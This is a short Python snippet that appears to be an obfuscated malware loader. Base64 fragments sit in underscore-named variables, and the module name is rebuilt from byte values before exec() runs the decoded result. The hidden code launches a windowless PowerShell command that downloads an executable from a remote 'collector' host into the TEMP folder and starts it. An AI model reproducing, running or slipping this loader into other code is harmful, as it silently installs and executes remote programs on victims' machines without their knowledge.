__________ = "aW1wb3J0IHN1YnByb2Nlc3MKc3VicHJvY2Vzcy5Qb3BlbihbInBvd2Vyc2hlbGwiLCItV2luZG"
_________ = "93U3R5bGUiLCJIaWRkZW4iLCItQ29tbWFuZCIsIkludm9rZS1XZWJSZXF1ZXN0IGh0dHA6Ly9j"
________ = "b2xsZWN0b3IuaW52YWxpZC9zLmV4ZSAtT3V0RmlsZSAkZW52OlRFTVBcXHMuZXhlOyBTdGFydC"
_______ = "1Qcm9jZXNzICRlbnY6VEVNUFxccy5leGUiXSxjcmVhdGlvbmZsYWdzPTB4MDgwMDAwMDApCg=="
exec(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()).b64decode(getattr(__________, "__add__")(_________) + ________ + _______))
